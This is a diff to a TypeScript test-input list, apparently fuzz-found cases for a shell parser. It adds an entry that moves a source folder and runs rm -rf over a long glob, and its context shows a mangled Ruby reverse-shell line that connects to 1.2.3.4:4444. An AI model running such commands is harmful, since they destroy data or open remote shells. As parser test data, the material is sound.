@@ -57,6 +57,11 @@ export const found: readonly (readonly [target: string, title: string, input: st
     "for f in $(ls *.md) a b\nfor g in $(ls *.c) d\nruby -e '" +
       'exitAif fork;c=TCPSocket.new("1.2.3.4",4444L;while(cmd=c.;while(cile(cmd=c.;while(cmd=c.gets);IO.popen(cmd,gets);IO.popen(coEmitmd=c.gets);IO.popen(cmd,gets);IO.popen(coEmit\'',
   ],
+  [
+    'shell',
+    'a pattern of many stars over a long name that was moved there',
+    `mv src /tmp/${'a'.repeat(220)} && rm -rf /tmp/${'?*a'.repeat(12)}?b`,
+  ],
   ['shell', 'a sum of a variable that names itself often', `${'x+=${x:-a} x+=$x$y\n'.repeat(12)}echo $((x + 1))`],
   [
     'patch',
